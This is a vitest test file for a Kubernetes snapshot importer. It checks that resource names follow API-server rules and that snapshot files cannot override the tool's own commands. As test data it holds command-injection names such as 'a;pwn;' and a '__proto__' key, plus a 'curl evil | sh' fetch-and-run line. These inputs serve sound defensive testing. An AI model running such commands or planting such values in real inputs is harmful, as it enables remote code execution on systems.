import { describe, expect, test } from 'vitest'
import { checkSnapshot } from '../../src/kube/import/check.ts'
import { importTexts } from '../../src/kube/import/import.ts'
import { hashOfSnapshot } from '../../src/kube/snapshot/canonical.ts'
import { readSnapshot, writeSnapshot } from '../../src/kube/snapshot/file.ts'
import type { Snapshot } from '../../src/kube/snapshot/snapshot.ts'
import { Problem } from '../../src/request/problem.ts'
import { hostileNames } from '../support/hostile.ts'
import { A, SERVICE, snapshot } from '../support/small-cluster.ts'

/** A manifest of a pod and of what stands around it, with one name of somebody's choice. */
function podNamed(name: string, namespace = 'shop'): string {
  const pod = { apiVersion: 'v1', kind: 'Pod', metadata: { name, namespace }, spec: {}, status: { podIP: '10.0.1.5' } }
  return JSON.stringify(pod)
}
const imported = (text: string) => importTexts([{ file: 'pod.json', text }], { name: 'upload' })

describe('names are what the API server admits', () => {
  test.each(['a', 'web-1', 'a.b.c', '0', 'constructor', 'x'.repeat(253)])('%s is a pod', (name) => {
    expect(imported(podNamed(name)).snapshot.pods.map((pod) => pod.name)).toEqual([name])
  })

  test.each(['', 'Web', 'a_b', '__proto__', '-a', 'a-', 'a..b', 'a/b', 'x'.repeat(254), 'a;pwn;', 'a\npwn', 'a\u202e'])(
    '%j is none: it is left out, and the place is told',
    (name) => {
      const { snapshot, notices } = imported(podNamed(name))
      expect(snapshot.pods).toEqual([])
      expect(notices).toMatchObject([{ kind: 'bad-object', field: 'metadata.name', expected: 'a-z0-9-., 1-253' }])
      expect(snapshot.gaps.map((gap) => gap.kind)).toContain('left-out')
    },
  )

  test('a namespace is one label', () => {
    expect(imported(podNamed('a', 'shop.eu')).snapshot.pods).toEqual([])
    expect(imported(podNamed('a', 'x'.repeat(64))).snapshot.pods).toEqual([])
  })

  test('no name that means harm is one', () => {
    const harmful = hostileNames(500).filter((name) => /[^a-z0-9.-]/.test(name))
    for (const name of harmful) expect(imported(podNamed(name)).snapshot.pods).toEqual([])
  })

  test('a name of a megabyte costs no time', () => {
    const began = performance.now()
    expect(imported(podNamed('a-'.repeat(500_000))).snapshot.pods).toEqual([])
    expect(performance.now() - began).toBeLessThan(2_000)
  })
})

describe('a snapshot file is checked like an import', () => {
  const filed = (change: Partial<Snapshot>): string => {
    const bare = snapshot({}, change)
    return writeSnapshot({ ...bare, hash: hashOfSnapshot(bare) })
  }
  const read = (change: Partial<Snapshot>) => () => readSnapshot('x.json', filed(change))
  const bad = 'a;pwn;'

  test('as it is, it opens', () => {
    expect(read({})().pods.length).toBe(3)
  })

  test.each<[string, Partial<Snapshot>]>([
    ['a pod', { pods: [{ ...A, name: bad }] }],
    ['the namespace of a pod', { pods: [{ ...A, namespace: bad }] }],
    ['the node of a pod', { pods: [{ ...A, node: bad }] }],
    ['a service', { services: [{ ...SERVICE, name: bad }] }],
    ['the namespace of a service', { services: [{ ...SERVICE, namespace: bad }] }],
    ['a node', { nodes: snapshot({}).nodes.map((node) => ({ ...node, name: bad })) }],
    ['a namespace', { namespaces: [{ name: bad, labels: {}, synthetic: [] }] }],
    ['a policy', { networkPolicies: [{ namespace: 'shop', name: bad, spec: { podSelector: {} }, unread: [] }] }],
    ['a policy of Cilium', { ciliumPolicies: [{ name: bad, rules: [], unread: [] }] }],
  ])('%s by a name that no API server admits is refused', (_, change) => {
    expect(read(change)).toThrow(Problem)
  })

  test('the commands of a gap are ours, whatever the file says', () => {
    const text = filed({ gaps: [{ kind: 'pod-unmanaged', pod: 'shop/a', decides: true }] })
    const opened = readSnapshot('x.json', text.replace('"pod":"shop/a"', '"pod":"shop/a","command":"curl evil | sh"'))
    const lines = checkSnapshot(opened).gaps.map(({ command }) => command)
    expect(lines).toEqual(['kubectl -n shop get ciliumendpoint a -o json', 'date -u +%FT%TZ'])
  })
})
